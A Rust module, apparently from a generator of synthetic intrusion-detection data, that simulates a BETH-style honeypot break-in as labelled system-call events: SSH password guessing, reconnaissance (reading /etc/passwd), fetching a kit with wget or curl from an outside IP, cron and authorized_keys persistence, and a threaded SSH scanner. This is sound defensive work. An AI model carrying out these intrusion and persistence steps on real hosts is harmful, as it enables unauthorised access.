//! The staged break-in on the test host.
//!
//! A stranger guesses passwords, gets in as a new user, looks around, downloads and unpacks a kit,
//! makes sure to come back (a cron job, a key), and starts a scanner whose hundred threads connect to
//! other hosts until the recording ends; at times the intruder looks in again. The stages are those
//! BETH's authors describe of their honeypot (Highnam et al. 2021, Section 4 and Appendix C).
//!
//! Labels: what the intruder's shell and its children do is `evil` and `sus`. sshd's part of the
//! intruder's logins and guesses, and the service manager started for them, are `sus` only.

use super::actions::{ALREADY, APPEND, CREATE, IN_PROGRESS, READ, REFUSED};
use super::host::{Host, Task};
use super::programs::{self, Tool};
use super::remote::{Account, LoginLabels, Session};
use super::services::Services;
use super::text::{Label, Peer};

/// Shares of the test split's events, per mille: near BETH's 838 evil and 69 suspicious only.
const EVIL_SHARE: u64 = 825;
const SUSPICIOUS_SHARE: u64 = 70;
/// The break-in begins after this share of the benign events, per mille.
const QUIET_SHARE: u64 = 600;

const INTRUDER: Account = Account {
    user: 1_001,
    home: "/home/backup",
};
const LABELS: LoginLabels = LoginLabels {
    monitor: Label::Suspicious,
    manager: Label::Suspicious,
    shell: Label::Evil,
};
const KIT: &str = "/tmp/.X19-unix";
const THREADS: usize = 100;
/// The most calls the scanner makes in one step.
const BURST: u64 = 4_000;

/// What the intruder types to learn about the host, in this order; each command with the file it is given.
static LOOK_AROUND: [(&Tool, &str); 18] = [
    (&programs::W, ""),
    (&programs::UNAME, "-a"),
    (&programs::CAT, "/proc/cpuinfo"),
    (&programs::LS, "-lah"),
    (&programs::WHOAMI, ""),
    (&programs::FREE, "-m"),
    (&programs::LSCPU, ""),
    (&programs::PS, "x"),
    (&programs::GREP, "/proc/meminfo"),
    (&programs::ID, ""),
    (&programs::CRONTAB, "-l"),
    (&programs::WHO, ""),
    (&programs::CAT, "/etc/passwd"),
    (&programs::PASSWD, ""),
    (&programs::DF, "-h"),
    (&programs::TOP, "-bn1"),
    (&programs::HEAD, "/etc/os-release"),
    (&programs::LS, "/var/tmp"),
];

#[derive(Clone, Copy)]
enum Stage {
    Waiting,
    Guessing { left: u32 },
    LookingAround { session: Session, next: usize },
    Downloading(Session),
    Unpacking(Session),
    Persisting(Session),
    Launching(Session),
    Scanning,
    Visiting { session: Session, left: u32 },
}

/// A connection attempt of one scanner thread.
struct Attempt {
    thread: Task,
    /// The socket and whom it is for.
    target: Option<(i64, [u8; 4])>,
}

/// The intruder's state between two steps.
pub(super) struct Campaign {
    stage: Stage,
    attempts: Vec<Attempt>,
    /// Counts at the moment the scanner started: (benign, evil).
    launched_at: (u64, u64),
}

impl Campaign {
    /// A campaign that has not begun.
    pub(super) fn new() -> Self {
        Self {
            stage: Stage::Waiting,
            attempts: Vec::new(),
            launched_at: (0, 0),
        }
    }

    /// Does the next thing; the wait until the one after it, in microseconds.
    pub(super) fn step(&mut self, host: &mut Host<'_, '_>, services: &Services) -> u64 {
        self.stage = match self.stage {
            Stage::Waiting if benign(host) * 1_000 < benign_target(host) * QUIET_SHARE => {
                return 1_000_000;
            }
            Stage::Waiting => Stage::Guessing {
                left: (host.share() / 10_000).clamp(1, 6) as u32,
            },
            Stage::Guessing { left: 0 } => {
                let session = host.log_in(services, INTRUDER, LABELS);
                Stage::LookingAround { session, next: 0 }
            }
            Stage::Guessing { left } => {
                host.guess(services);
                Stage::Guessing { left: left - 1 }
            }
            Stage::LookingAround { session, next } => look_around(host, session, next),
            Stage::Downloading(session) => download(host, session),
            Stage::Unpacking(session) => unpack(host, session),
            Stage::Persisting(session) => persist(host, session),
            Stage::Launching(session) => self.launch(host, services, session),
            Stage::Scanning => self.scan_or_return(host, services),
            Stage::Visiting { session, left } => visit(host, services, session, left),
        };
        match self.stage {
            Stage::Scanning | Stage::Visiting { .. } => host.random.around(250_000),
            _ => host.random.around(900_000),
        }
    }

    /// True once the intruder's cron job is in place.
    pub(super) fn persists(&self) -> bool {
        !self.attempts.is_empty()
    }

    /// The scanner starts, with its threads; the intruder leaves.
    fn launch(&mut self, host: &mut Host<'_, '_>, services: &Services, session: Session) -> Stage {
        host.search_path(session.shell, &programs::NOHUP);
        let wrapper = host.fork(session.shell);
        host.become_tool(wrapper, &programs::NOHUP, &["./run"]);
        host.exec(wrapper, "/bin/bash", &["bash", "./run"]);
        host.load(wrapper, &["libtinfo", "libdl", "libc"]);
        for tool in [&programs::SLEEP, &programs::UNAME] {
            host.command(wrapper, tool, &[]);
        }
        let task = host.fork(wrapper);
        host.exec(
            task,
            &format!("{KIT}/sweepd"),
            &["./sweepd", "-t", "100", "-p", "22"],
        );
        host.load(task, &["libpthread", "libc"]);
        host.read(task, &format!("{KIT}/targets"));
        for thread in 0..THREADS {
            let task = host.start_thread(task);
            host.set_name(task, &format!("pool-{thread}"));
            self.attempts.push(Attempt {
                thread: task,
                target: None,
            });
        }
        host.log_out(services, session, INTRUDER);
        self.launched_at = (benign(host), host.counts.evil);
        Stage::Scanning
    }

    /// Keeps the shares of evil and suspicious events in step with the benign ones.
    fn scan_or_return(&mut self, host: &mut Host<'_, '_>, services: &Services) -> Stage {
        let suspicious_only = host.counts.suspicious - host.counts.evil;
        if suspicious_only * 1_000 < host.counts.events * SUSPICIOUS_SHARE {
            host.guess(services);
            if host.random.one_in(4) {
                let session = host.log_in(services, INTRUDER, LABELS);
                return Stage::Visiting {
                    session,
                    left: host.random.between(2, 7),
                };
            }
        }
        let (benign_then, evil_then) = self.launched_at;
        let progress = benign(host) - benign_then;
        let remaining = benign_target(host).saturating_sub(benign_then).max(1);
        let due = evil_then
            + (host.share() * EVIL_SHARE / 1_000).saturating_sub(evil_then) * progress / remaining;
        let evil = host.counts.evil;
        for _ in 0..due.saturating_sub(evil).clamp(20, BURST) {
            self.connect_somewhere(host);
        }
        Stage::Scanning
    }

    /// One thread goes on with its attempt: a new socket, or another look at one whose connection is not there yet.
    fn connect_somewhere(&mut self, host: &mut Host<'_, '_>) {
        let place = host.random.below(self.attempts.len() as u32) as usize;
        let attempt = &mut self.attempts[place];
        let thread = attempt.thread;
        let Some((fd, address)) = attempt.target else {
            let [network, last, ..] = host.random.bits().to_le_bytes();
            let address = [192, 168, network % 32, last];
            let fd = host.socket(thread, "AF_INET", "SOCK_STREAM");
            let peer = host.internet(address, 22);
            host.connect(thread, fd, &peer, IN_PROGRESS);
            attempt.target = Some((fd, address));
            return;
        };
        let returns = match host.random.below(64) {
            0 => REFUSED,
            1 => 0,
            _ => ALREADY,
        };
        let peer = host.internet(address, 22);
        host.connect(thread, fd, &peer, returns);
        if returns != ALREADY {
            host.close(thread, fd);
            attempt.target = None;
        }
    }
}

fn benign(host: &Host<'_, '_>) -> u64 {
    host.counts.events - host.counts.suspicious
}

fn benign_target(host: &Host<'_, '_>) -> u64 {
    host.share() * (1_000 - EVIL_SHARE - SUSPICIOUS_SHARE) / 1_000
}

/// One command; how many there are depends on how long the recording is.
fn look_around(host: &mut Host<'_, '_>, session: Session, next: usize) -> Stage {
    let commands = (host.share() as usize / 1_000).clamp(2, LOOK_AROUND.len());
    let Some(&(tool, argument)) = LOOK_AROUND[..commands].get(next) else {
        return Stage::Downloading(session);
    };
    if next % 5 == 4 {
        host.pipeline(
            session.shell,
            &[
                (tool, &[argument]),
                (&programs::GREP, &["model"]),
                (&programs::WC, &["-l"]),
            ],
        );
    } else {
        host.command_with(session.shell, tool, &[argument], |host, task| {
            if argument.starts_with("/proc/") || argument.starts_with("/etc/") {
                host.read(task, argument);
            }
        });
    }
    Stage::LookingAround {
        session,
        next: next + 1,
    }
}

fn download(host: &mut Host<'_, '_>, session: Session) -> Stage {
    host.command(session.shell, &programs::MKDIR, &["-p", KIT]);
    let tool = host.random.pick(&[&programs::WGET, &programs::CURL]);
    host.command_with(
        session.shell,
        tool,
        &["http://45.9.148.99/kit.tar.gz"],
        |host, task| {
            host.resolve_name(task);
            let fd = host.socket(task, "AF_INET", "SOCK_STREAM");
            let server = host.internet([45, 9, 148, 99], 80);
            host.connect(task, fd, &server, 0);
            host.write(task, &format!("{KIT}/kit.tar.gz"), CREATE);
            host.close(task, fd);
        },
    );
    Stage::Unpacking(session)
}

fn unpack(host: &mut Host<'_, '_>, session: Session) -> Stage {
    host.command_with(
        session.shell,
        &programs::TAR,
        &["xzf", "kit.tar.gz"],
        |host, task| {
            host.read(task, &format!("{KIT}/kit.tar.gz"));
            host.run(task, &programs::GZIP, &["-d"]);
            for file in [
                "run",
                "sweepd",
                "targets",
                "stop",
                "lib/libc.so.6",
                "lib/libpthread.so.0",
                "init",
                "upd",
            ] {
                let path = format!("{KIT}/{file}");
                host.unlink_missing(task, &path);
                host.write_private(task, &path);
                host.lchown(task, &path, INTRUDER.user);
            }
        },
    );
    host.command_with(
        session.shell,
        &programs::RM,
        &["-f", "kit.tar.gz"],
        |host, task| {
            host.unlinkat(task, KIT, "kit.tar.gz");
        },
    );
    host.command(session.shell, &programs::CHMOD, &["+x", "run", "sweepd"]);
    Stage::Persisting(session)
}

fn persist(host: &mut Host<'_, '_>, session: Session) -> Stage {
    host.command_with(session.shell, &programs::CRONTAB, &["upd"], |host, task| {
        host.read(task, &format!("{KIT}/upd"));
        host.write_private(task, "/var/spool/cron/crontabs/tmp.q8RzZk");
        host.stat(task, "/var/spool/cron/crontabs", true);
    });
    let keys = format!("{}/.ssh", INTRUDER.home);
    host.command_with(
        session.shell,
        &programs::RM,
        &["-rf", ".ssh"],
        |host, task| {
            host.unlinkat(task, &keys, "authorized_keys");
        },
    );
    host.command(session.shell, &programs::MKDIR, &[".ssh"]);
    host.write(session.shell, &format!("{keys}/authorized_keys"), APPEND);
    host.command(session.shell, &programs::CHMOD, &["-R", "go=", ".ssh"]);
    Stage::Launching(session)
}

/// The intruder looks whether all is well.
fn visit(host: &mut Host<'_, '_>, services: &Services, session: Session, left: u32) -> Stage {
    if left == 0 {
        host.log_out(services, session, INTRUDER);
        return Stage::Scanning;
    }
    let (tool, argument) = host.random.pick(&LOOK_AROUND);
    host.command(session.shell, tool, &[argument]);
    Stage::Visiting {
        session,
        left: left - 1,
    }
}

impl Host<'_, '_> {
    /// The intruder's cron job, run by the host's own cron.
    pub(super) fn intruders_job(&mut self, services: &Services) {
        let (child, job) =
            self.cron_child(services, "/var/spool/cron/crontabs/backup", INTRUDER.user);
        self.set_label(job, Label::Evil);
        self.script_of(job, |host, shell| {
            host.read(shell, &format!("{KIT}/upd"));
            host.command(shell, &programs::PS, &["x"]);
            host.command(shell, &programs::GREP, &["sweepd"]);
        });
        self.exit(child);
    }

    /// Asks the local resolver.
    fn resolve_name(&mut self, task: Task) {
        let fd = self.socket(task, "AF_UNIX", "SOCK_STREAM|SOCK_CLOEXEC|SOCK_NONBLOCK");
        self.connect(
            task,
            fd,
            &Peer::Unix("/var/run/nscd/socket"),
            super::actions::NO_SUCH_FILE,
        );
        self.close(task, fd);
        let fd = self.socket(task, "AF_INET", "SOCK_DGRAM|SOCK_CLOEXEC|SOCK_NONBLOCK");
        let resolver = self.internet([127, 0, 0, 53], 53);
        self.connect(task, fd, &resolver, 0);
        self.close(task, fd);
        self.open_fails(
            task,
            "/etc/resolv.conf.d/local",
            READ,
            super::actions::NO_SUCH_FILE,
        );
    }
}
